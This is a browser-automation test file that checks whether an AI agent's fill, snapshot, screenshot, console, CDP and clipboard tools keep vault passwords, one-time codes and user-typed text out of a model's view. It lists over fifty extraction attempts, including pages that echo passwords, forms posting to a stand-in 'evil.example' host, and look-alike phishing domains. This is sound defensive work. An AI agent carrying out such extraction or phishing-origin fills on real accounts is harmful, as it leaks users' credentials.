/**
 * Tests on a real Chromium that no value of the vault, and nothing that a person types, reaches a model: it is as obedient
 * as can be, and tries everything that its tools allow.
 */

import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createRedactor } from '#agent/core/secrets/redaction.ts'
import { createTotp, parseTotp } from '#backends/browser/totp.ts'
import type { NetworkGuard } from '#backends/browser/request-guard.ts'
import { BrowserProblem } from '#backends/browser/element.ts'
import { type BrowserSession, newBrowserSession, refOf } from './support/browser-session.ts'
import { firstRows } from '../../support/long.ts'
import { chromium } from './support/chromium.mjs'
import { useChromium } from './support/use-chromium.ts'

const bank = 'https://bank.example.com'
const values: Readonly<Record<string, string>> = {
  username: 'ann.arbor@example.com',
  password: 'Sommer-Regen-2026!',
  totp: 'JBSWY3DPEHPK3PXP',
  street: 'Langer Weg 17b',
  country: 'Nirgendland',
  pin: '471147',
}
const code = '482915'
const typedByPerson = 'karte 4000 1234 9010'
const secrets = [...Object.values(values), code, typedByPerson]
const redactor = createRedactor(secrets)
const short = [code, values['pin'] ?? '']

const login = `<form action="/in"><label>User <input name=user></label><label>Password <input id=p name=password type=password></label>
  <label>Code <input name=code></label><label>Street <input name=street></label><label>Pin <input name=pin type=password></label>
  <label>Country <select name=country><option>Anderland<option>Nirgendland</select></label>
  <button>Send</button></form>
  <label>Find <input name=q type=search></label><label>Notes <textarea></textarea></label>
  <div contenteditable role=textbox aria-label=Rich></div>
  <button onclick="p.type='text'">Show</button>
  <button onclick="out.textContent=p.value">Echo</button>
  <button onclick="out.textContent='x'.repeat(190)+p.value+' and more text'">Long</button>
  <button onclick="document.title='t'.repeat(290)+p.value">Title</button>
  <button onclick="console.log('it is '+p.value)">Log</button>
  <button onclick="history.pushState({},'','/'+encodeURIComponent(p.value))">Address</button>
  <button onclick="alert(p.value)">Alert</button>
  <button onclick="document.images[0].alt=p.value">Picture</button><img alt=none src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
  <h2 id=out>nothing</h2>`

const frame = (src: string, more = '') => `<h1>Around</h1><iframe src="${src}" width=600 height=500 ${more}></iframe>`
const pages: Readonly<Record<string, string>> = {
  '/login': login,
  '/away': login.replace('action="/in"', 'action="https://evil.example/take"'),
  '/button': login.replace('<button>Send', '<button formaction="https://evil.example/take">Send'),
  '/frames-bank': frame(`${bank}/login`),
  '/frames-evil': frame('https://evil.example/login'),
  '/sandboxed': frame('/login', 'sandbox="allow-scripts allow-forms"'),
  '/blank': '<h1>Around</h1><iframe srcdoc="<label>Password <input type=password></label>" sandbox></iframe>',
  '/in': '<h1>Welcome</h1>',
}
const evilHosts = [
  'evil.example',
  'bank.example.com.evil.example',
  'bank-example.com',
  'xn--bnk-rla.example.com',
  'www.bank.example.com',
  'bank.example.co',
]

describe.skipIf(chromium === undefined)('protected values (needs Chromium)', () => {
  let session: BrowserSession
  /** Everything that another origin than the bank was sent. */
  const sentAway: string[] = []
  const network: NetworkGuard = {
    check: async () => undefined,
    mappedHosts: ['bank.example.com', ...evilHosts],
    fetch: async ({ url, body }) => {
      const { pathname, origin } = new URL(url)
      if (origin !== bank) sentAway.push(url, body ?? '')
      const html = pages[pathname] ?? '<h1>Other</h1>'
      return new Response(`<!doctype html><title>Page</title>${html}`, { headers: { 'content-type': 'text/html' } })
    },
  }
  const redact = (text: string) =>
    short.reduce((rest, value) => rest.replaceAll(value, '***'), redactor.redactExact(text))
  const openField: NonNullable<Parameters<typeof newBrowserSession>[2]>['protect'] = {
    redact,
    openField: async ({ entry, origin }, field) => {
      if (entry !== 'bank' || origin !== bank) throw new BrowserProblem('It is not stored for this.')
      const value = Object.hasOwn(values, field) ? values[field] : undefined
      if (value === undefined) throw new BrowserProblem('There is no such field.')
      return {
        value: field === 'totp' ? code : value,
        isPassword: field === 'password' || field === 'pin',
        allowed: [origin],
      }
    },
  }

  beforeAll(async () => {
    session = await newBrowserSession(await useChromium(), network, { protect: openField })
  })
  afterAll(() => session.close())

  /** Everything that the model has seen since the attempt began. */
  let seen: string[] = []
  let snapshot = ''
  const act: BrowserSession['act'] = async (action) => {
    try {
      const answer = await session.act(action)
      seen.push(JSON.stringify(answer))
      if (typeof answer['snapshot'] === 'string') snapshot = answer['snapshot']
      return answer
    } catch (error) {
      seen.push(String(error))
      return { refused: String(error) }
    }
  }
  /** An attempt on another page than it means would prove nothing. */
  const go = async (url: string) => {
    const answer = await act({ kind: 'navigate', url })
    expect(answer).toMatchObject({ success: true })
    return answer
  }
  const look = (isFull = false) => act({ kind: 'snapshot', isFull })
  const click = async (name: string) => act({ kind: 'click', ref: refOf(snapshot, name) })
  const fill = async (field: string, into: string, origin = bank, entry = 'bank') =>
    act({ kind: 'fill', entry, origin, fields: [{ ref: refOf(snapshot, into), field }] })
  const fillLogin = async () => {
    await go(`${bank}/login`)
    await fill('username', 'User')
    return fill('password', 'textbox "Password"')
  }
  const typeAsPerson = async (into: string) => {
    await go(`${bank}/login`)
    await click(into)
    await act({ kind: 'input', input: { type: 'text', text: typedByPerson } })
    seen.length = 0
  }
  const intoPassword =
    (url: string, origin = bank) =>
    async () => {
      await go(url)
      return fill('password', 'textbox "Password"', origin)
    }
  const afterEcho = (button: string, next: () => Promise<unknown>) => async () => {
    await fillLogin()
    await click(`button "${button}"`)
    return next()
  }
  const screenshot = () => act({ kind: 'screenshot' })

  const refused = { refused: expect.any(String) }
  const failed = { error: expect.any(String) }

  /** Each attempt, and what its last step answers. */
  const attempts: readonly (readonly [string, () => Promise<unknown>, object])[] = [
    ['looks after a fill', async () => (await fillLogin(), look()), { success: true }],
    ['lets the page repeat it', afterEcho('Echo', () => look(true)), { snapshot: expect.stringContaining('***') }],
    ['shows the password, then photographs', afterEcho('Show', screenshot), { success: true }],
    ['photographs the repetition', afterEcho('Echo', screenshot), refused],
    [
      'evaluates an expression',
      afterEcho('Echo', () => act({ kind: 'console', isCleared: false, expression: 'p.value' })),
      refused,
    ],
    ['lets a cut go through it', afterEcho('Long', () => look()), { success: true }],
    [
      'sends the form by its address',
      async () => (await fillLogin(), click('button "Send"')),
      { url: expect.stringContaining('***') },
    ],
    [
      'fills the password into a search',
      async () => (await go(`${bank}/login`), fill('password', 'searchbox')),
      failed,
    ],
    ['fills a look-alike with a longer name', intoPassword('https://bank.example.com.evil.example/login'), failed],
    ['fills without encryption', intoPassword('http://bank.example.com/login'), failed],
    ['fills the frame of the bank in a page around it', intoPassword('https://evil.example/frames-bank'), failed],
    ['fills a foreign frame in the bank', intoPassword(`${bank}/frames-evil`), failed],
    ['fills a frame without an origin', intoPassword(`${bank}/sandboxed`), failed],
    ['fills a form that goes elsewhere', intoPassword(`${bank}/away`), failed],
    ['fills a form whose button goes elsewhere', intoPassword(`${bank}/button`), failed],
    [
      'uses a reference of the bank in another page',
      async () => {
        await go(`${bank}/login`)
        const ref = refOf(snapshot, 'textbox "Password"')
        await go('https://evil.example/login')
        return act({ kind: 'fill', entry: 'bank', origin: bank, fields: [{ ref, field: 'password' }] })
      },
      failed,
    ],
    ['names a field of all objects', async () => (await go(`${bank}/login`), fill('constructor', '"User"')), failed],
    [
      'names another entry',
      async () => (await go(`${bank}/login`), fill('password', '"Password"', bank, 'else')),
      failed,
    ],
    [
      'sends a code by a search',
      async () => {
        await go(`${bank}/login`)
        await fill('totp', '"Code"')
        await click('button "Send"')
        return look(true)
      },
      { success: true },
    ],
    ['copies a name', async () => (await fillLogin(), act({ kind: 'press', key: 'Control+C' })), refused],
    ['looks at what a person has typed', async () => (await typeAsPerson('searchbox'), look(true)), { success: true }],
    [
      'photographs what a person has typed',
      async () => (await typeAsPerson('"Notes"'), screenshot()),
      { success: true },
    ],
    ['looks at a list', async () => (await go(`${bank}/login`), await fill('country', 'Country'), look(true)), {}],
    [
      'reads the accessibility tree by a command',
      afterEcho('Show', () =>
        act({ kind: 'cdp', method: 'Accessibility.getFullAXTree', params: {}, timeoutMs: 9_000 }),
      ),
      refused,
    ],
    ['looks at everything', async () => (await fillLogin(), look(true)), { success: true }],
    ['reads the document', async () => (await fillLogin(), act({ kind: 'html' })), { success: true }],
    ['lists the images', afterEcho('Picture', () => act({ kind: 'images' })), { images: [{ alt: '***' }] }],
    ['reads the console', afterEcho('Log', () => act({ kind: 'console', isCleared: false })), { success: true }],
    [
      'reads the DOM by a command',
      afterEcho('Echo', () => act({ kind: 'cdp', method: 'DOM.getDocument', params: { depth: -1 }, timeoutMs: 9_000 })),
      refused,
    ],
    ['shows the password, then looks', afterEcho('Show', () => look(true)), { success: true }],
    ['prints the repetition', afterEcho('Echo', () => act({ kind: 'pdf' })), refused],
    ['lets a cut of the title go through it', afterEcho('Title', () => look()), { success: true }],
    ['reads a dialog', afterEcho('Alert', () => look()), { success: true }],
    ['reads the address', afterEcho('Address', () => go(`${bank}/in`)), { success: true }],
    [
      'lists the requests of a sent form',
      async () => {
        await fillLogin()
        await click('button "Send"')
        return act({ kind: 'requests' })
      },
      { requests: expect.arrayContaining([expect.objectContaining({ url: expect.stringContaining('***') })]) },
    ],
    ['comes back to a filled form', async () => (await fillLogin(), await go(`${bank}/in`), act({ kind: 'back' })), {}],
    ['fills the password into the name', async () => (await go(`${bank}/login`), fill('password', '"User"')), failed],
    ['fills the password into notes', async () => (await go(`${bank}/login`), fill('password', '"Notes"')), failed],
    ['fills the password into rich text', async () => (await go(`${bank}/login`), fill('password', '"Rich"')), failed],
    ['fills the password into a button', async () => (await go(`${bank}/login`), fill('password', '"Echo"')), failed],
    ['fills a look-alike with a dash', intoPassword('https://bank-example.com/login'), failed],
    ['fills a look-alike with a foreign letter', intoPassword('https://xn--bnk-rla.example.com/login'), failed],
    ['fills a look-alike with a shorter end', intoPassword('https://bank.example.co/login'), failed],
    ['fills a subdomain', intoPassword('https://www.bank.example.com/login'), failed],
    ['fills another port', intoPassword('https://bank.example.com:8443/login'), failed],
    [
      'names the true origin of another page',
      intoPassword('https://evil.example/login', 'https://evil.example'),
      failed,
    ],
    ['fills a frame without an address', intoPassword(`${bank}/blank`), failed],
    ['looks at an address', async () => (await go(`${bank}/login`), await fill('street', 'Street'), look(true)), {}],
    [
      'photographs a list',
      async () => (await go(`${bank}/login`), await fill('country', 'Country'), screenshot()),
      { success: true },
    ],
    ['looks at a short secret', async () => (await go(`${bank}/login`), await fill('pin', '"Pin"'), look(true)), {}],
    ['cuts a name', async () => (await fillLogin(), act({ kind: 'press', key: 'Control+X' })), refused],
    [
      'copies with another key',
      async () => (await fillLogin(), act({ kind: 'press', key: 'Control+Insert' })),
      refused,
    ],
    [
      'evaluates after a person has typed',
      async () => (
        await typeAsPerson('"Notes"'),
        act({ kind: 'console', isCleared: false, expression: 'document.body.innerHTML' })
      ),
      refused,
    ],
  ]

  it('are filled in where they belong, as a person would', async () => {
    expect(attempts.length).toBeGreaterThanOrEqual(40)
    await fillLogin()
    await fill('totp', '"Code"')
    await fill('country', 'Country')
    await click('button "Send"')
    expect(session.state().url).toBe(
      `${bank}/in?user=ann.arbor%40example.com&password=Sommer-Regen-2026%21&code=${code}&street=&pin=&country=Nirgendland`,
    )
  })

  // Those with frames at the end: the answer to leaving a page whose frame still loads may show that page.
  const inOrder = firstRows(8, attempts, 5).toSorted(
    ([one], [other]) => Number(one.includes('frame')) - Number(other.includes('frame')),
  )
  it.each(inOrder)('stay out of reach of a model that %s', async (_, attempt, last) => {
    seen = []
    session.stored.length = 0
    sentAway.length = 0
    expect(await attempt()).toMatchObject(last)
    const reached = [...seen, ...session.stored, ...sentAway].join('\n')
    expect(redact(reached)).toBe(reached)
    expect(reached).not.toMatch(/Sommer-Reg|ann\.arb|karte 40|Nirgendl|Langer W/)
  })
})

it('computes the codes of RFC 6238', async () => {
  const secret = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'
  const at = (seconds: number) => createTotp(`otpauth://totp/x?secret=${secret}&digits=8`, seconds * 1_000)
  expect(await Promise.all([59, 1_111_111_109, 20_000_000_000].map(at))).toEqual(['94287082', '07081804', '65353130'])
  expect(await createTotp(secret, 59_000)).toBe('287082')
  expect(['', 'no secret!', 'otpauth://hotp/x?secret=AAAAAAAA'].map(parseTotp)).toEqual([
    undefined,
    undefined,
    undefined,
  ])
})
